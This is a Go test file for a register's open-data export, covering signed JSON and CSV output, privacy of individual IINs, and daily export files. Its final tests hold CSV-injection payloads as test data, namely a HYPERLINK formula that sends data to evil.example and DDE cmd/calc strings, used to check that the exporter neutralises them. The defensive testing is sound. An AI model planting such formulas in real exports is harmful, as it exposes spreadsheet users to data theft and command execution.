package register_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"attestation/internal/attestation"
	"attestation/internal/register"
	"attestation/internal/signing"
)

func verifySig(pub, payload []byte, l register.Listing) error {
	return signing.Verify(pub, payload, l.Signature)
}

func exportEntries(t *testing.T, s register.Signer) []register.Entry {
	t.Helper()
	var out []register.Entry
	for i, tc := range []struct {
		object, bin string
		individual  bool
	}{
		{"Ақпараттық жүйе «Әлем, ғылым, қоғам, ңөұүһі»", "120540001238", false},
		{"Portal, \"quoted\"\nand on two lines", "990340001230", false},
		{"Сайт", "880101300123", true},
	} {
		d := draft(fmt.Sprintf("2026/%05d", i+1), tc.object, tc.bin)
		d.OwnerIndividual = tc.individual
		if i == 1 {
			d.Status = register.Recalled
			d.Recall = &register.Recall{Ground: "violation", Paragraph: "§45(2)", DecidedAt: issued.Add(time.Hour)}
			add := register.Act{Number: "ACT-2", Date: issued, Document: register.Document{SHA256: strings.Repeat("b", 64)}}
			d.AdditionalAct = &add
		}
		out = append(out, revise(t, s, register.Entry{}, d, issued))
	}
	return out
}

func TestExportPar29(t *testing.T) {
	s := newSigner(t, "key-1")
	entries := exportEntries(t, s)
	shuffled := []register.Entry{entries[2], entries[0], entries[1]}

	t.Run("§29 the same entries give the same bytes, in any order", func(t *testing.T) {
		if !bytes.Equal(register.ExportJSON(entries, issued), register.ExportJSON(shuffled, issued)) || !bytes.Equal(register.ExportCSV(entries, issued), register.ExportCSV(shuffled, issued)) {
			t.Fatal("the export depends on the order of the entries")
		}
		changed := append([]register.Entry(nil), entries...)
		changed[0] = revise(t, s, entries[0], entries[0], issued.Add(time.Hour))
		if bytes.Equal(register.ExportCSV(entries, issued), register.ExportCSV(changed, issued)) {
			t.Fatal("a new revision does not change the CSV")
		}
	})
	t.Run("§29 the JSON holds every public view with its seal, which verifies", func(t *testing.T) {
		var doc register.Export
		if err := json.Unmarshal(register.ExportJSON(shuffled, issued), &doc); err != nil {
			t.Fatal(err)
		}
		if doc.Count != 3 || len(doc.Entries) != 3 || doc.PublicKeyURL != register.PublicKeyPath {
			t.Fatalf("%+v", doc)
		}
		pub := publicKey(t, s)
		for i, x := range doc.Entries {
			if x.Entry.Number != entries[i].Number {
				t.Fatalf("entry %d is %s", i, x.Entry.Number)
			}
			b, _ := json.Marshal(x.Entry)
			if !bytes.Equal(b, x.Payload) {
				t.Fatalf("%s: the entry is not the payload", x.Entry.Number)
			}
			if err := signing.Verify(pub, x.Payload, x.Signature); err != nil {
				t.Fatalf("%s: %v", x.Entry.Number, err)
			}
		}
		if bytes.Contains(register.ExportJSON(entries, issued), []byte("880101300123")) {
			t.Fatal("an individual's IIN is in the JSON export")
		}
	})
	t.Run("§29 the CSV: RFC 4180, one row per entry with the §29 columns, UTF-8 with the Kazakh letters intact", func(t *testing.T) {
		raw := register.ExportCSV(shuffled, issued)
		if !bytes.HasSuffix(raw, []byte("\r\n")) || !bytes.Contains(raw, []byte("ңөұүһі")) {
			t.Fatalf("%s", raw)
		}
		if bytes.Contains(raw, []byte("880101300123")) {
			t.Fatal("an individual's IIN is in the CSV export")
		}
		rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 4 || !slices.Equal(rows[0], register.CSVHeader) {
			t.Fatalf("%d rows, header %v", len(rows), rows[0])
		}
		col := func(row []string, name string) string { return row[slices.Index(register.CSVHeader, name)] }
		for i, e := range entries {
			row := rows[i+1]
			if col(row, "number") != e.Number || col(row, "objectName") != e.ObjectName || col(row, "developer") != e.Developer ||
				col(row, "actNumber") != "ACT-1" || col(row, "certificateSha256") != e.Certificate.SHA256 ||
				col(row, "issuedAt") != "2026-10-20T06:00:00Z" || col(row, "payloadSha256") != register.PayloadSHA256(e.Seal.Payload) {
				t.Fatalf("row %d: %v", i+1, row)
			}
		}
		if r := rows[2]; col(r, "status") != "recalled" || col(r, "recallParagraph") != "§45(2)" || col(r, "returned") != "false" || col(r, "additionalActNumber") != "ACT-2" || col(r, "ownerBin") != "990340001230" {
			t.Fatalf("the recalled entry: %v", r)
		}
		if r := rows[3]; col(r, "ownerBin") != "" || col(r, "ownerName") == "" {
			t.Fatalf("the individual owner: %v", r)
		}
	})
}

// memRecords writes a key once, as s3store.Records does.
type memRecords struct{ objects map[string][]byte }

func (m *memRecords) Put(ctx context.Context, key, contentType string, body []byte) (attestation.Document, error) {
	if old, ok := m.objects[key]; ok {
		if !bytes.Equal(old, body) {
			return attestation.Document{}, fmt.Errorf("put %s: %w", key, attestation.ErrConflict)
		}
		return attestation.Document{Key: key, VersionID: "v-" + key, SHA256: register.PayloadSHA256(body)}, nil
	}
	m.objects[key] = append([]byte(nil), body...)
	return attestation.Document{Key: key, VersionID: "v-" + key, SHA256: register.PayloadSHA256(body)}, nil
}

type memLister struct{ entries []register.Entry }

func (m *memLister) AllEntries(ctx context.Context) ([]register.Entry, error) { return m.entries, nil }

func TestOpenDataExportPar29(t *testing.T) {
	ctx := context.Background()
	s := newSigner(t, "key-1")
	almaty, err := time.LoadLocation("Asia/Almaty")
	if err != nil {
		t.Fatal(err)
	}
	entries := exportEntries(t, s)
	lister := &memLister{entries: entries}
	recs := &memRecords{objects: map[string][]byte{}}
	od := register.NewOpenData(lister, recs, almaty)
	// 20:00 UTC on 20 October is 01:00 on 21 October in Almaty.
	at := time.Date(2026, 10, 20, 20, 0, 0, 0, time.UTC)

	out, err := od.Check(ctx, at)
	if err != nil {
		t.Fatal(err)
	}
	rep := out.(register.OpenDataReport)
	if rep.Day != "2026-10-21" || rep.Entries != 3 || len(rep.Files) != 2 || rep.Files[0].Key != "open-data/2026-10-21/register.json" ||
		rep.Files[1].Key != "open-data/2026-10-21/register.csv" || rep.Files[0].Stands || rep.Files[0].VersionID == "" {
		t.Fatalf("%+v", rep)
	}
	if !bytes.Equal(recs.objects[rep.Files[0].Key], register.ExportJSON(entries, at)) || !bytes.Equal(recs.objects[rep.Files[1].Key], register.ExportCSV(entries, at)) {
		t.Fatal("the files are not the export")
	}
	t.Run("§29 a second run the same day, the register unchanged, answers the same files", func(t *testing.T) {
		again, err := od.Check(ctx, at.Add(3*time.Hour))
		if err != nil || fmt.Sprint(again) != fmt.Sprint(rep) {
			t.Fatalf("%+v %v", again, err)
		}
	})
	t.Run("§29 a run after the register changed the same day leaves the day's export standing and says so", func(t *testing.T) {
		lister.entries = entries[:2]
		again, err := od.Check(ctx, at.Add(4*time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		r := again.(register.OpenDataReport)
		if !r.Files[0].Stands || !r.Files[1].Stands || r.Entries != 2 {
			t.Fatalf("%+v", r)
		}
		if !bytes.Equal(recs.objects[rep.Files[0].Key], register.ExportJSON(entries, at)) {
			t.Fatal("the day's export was replaced")
		}
	})
	t.Run("§29 the next day's export carries the change", func(t *testing.T) {
		next, err := od.Check(ctx, at.Add(24*time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		r := next.(register.OpenDataReport)
		if r.Day != "2026-10-22" || r.Files[0].Stands || !bytes.Equal(recs.objects["open-data/2026-10-22/register.json"], register.ExportJSON(entries[:2], at.Add(24*time.Hour))) {
			t.Fatalf("%+v", r)
		}
	})
}

// TestSpreadsheetSafeOWASPCSVInjection: a cell that begins with =, +, -, @, tab or carriage
// return (and NUL, OWASP ASVS 1.2.10) gets a single quote in front (OWASP, CSV Injection); any
// other cell is unchanged.
func TestSpreadsheetSafeOWASPCSVInjection(t *testing.T) {
	for _, tc := range []struct{ name, cell, want string }{
		{"equals: a formula", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"equals: DDE", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"NUL", "\x00=1+1", "'\x00=1+1"},
		{"a formula character inside is text already", "Portal = gateway", "Portal = gateway"},
		{"a leading space", " =1+1", " =1+1"},
		{"empty", "", ""},
		{"Kazakh text", "Ақпараттық жүйе", "Ақпараттық жүйе"},
		{"a date", "2026-10-20T06:00:00Z", "2026-10-20T06:00:00Z"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := register.SpreadsheetSafe(tc.cell); got != tc.want {
				t.Fatalf("SpreadsheetSafe(%q) = %q, want %q", tc.cell, got, tc.want)
			}
		})
	}
}

// TestExportCSVIsSafeInASpreadsheetOWASPCSVInjection: the open-data CSV neutralises every cell a
// user's text can begin (object, owner, developer, act, recall), while the JSON export keeps each
// value exactly as signed.
func TestExportCSVIsSafeInASpreadsheetOWASPCSVInjection(t *testing.T) {
	s := newSigner(t, "key-1")
	d := draft("2026/00001", `=HYPERLINK("http://evil.example","Open")`, "120540001238")
	d.OwnerName, d.Developer = "+7 701 000 0000 LLP", "@Developer"
	d.Act.Number = "-1"
	d.Status = register.Recalled
	d.Recall = &register.Recall{Ground: "\t=cmd|' /C calc'!A0", Paragraph: "§45(2)", DecidedAt: issued.Add(time.Hour)}
	e := revise(t, s, register.Entry{}, d, issued)
	rows, err := csv.NewReader(bytes.NewReader(register.ExportCSV([]register.Entry{e}, issued))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	col := func(name string) string { return rows[1][slices.Index(register.CSVHeader, name)] }
	for name, want := range map[string]string{
		"objectName": `'=HYPERLINK("http://evil.example","Open")`, "ownerName": "'+7 701 000 0000 LLP", "developer": "'@Developer",
		"actNumber": "'-1", "recallGround": "'\t=cmd|' /C calc'!A0", "ownerBin": "120540001238", "number": "2026/00001",
	} {
		if got := col(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0])) {
			t.Errorf("column %s begins with %q: a spreadsheet evaluates it", register.CSVHeader[i], cell[:1])
		}
	}
	var doc register.Export
	if err := json.Unmarshal(register.ExportJSON([]register.Entry{e}, issued), &doc); err != nil {
		t.Fatal(err)
	}
	if got := doc.Entries[0].Entry; got.ObjectName != d.ObjectName || got.OwnerName != d.OwnerName || got.Recall.Ground != d.Recall.Ground {
		t.Fatalf("the JSON export changed the values: %+v", got)
	}
}
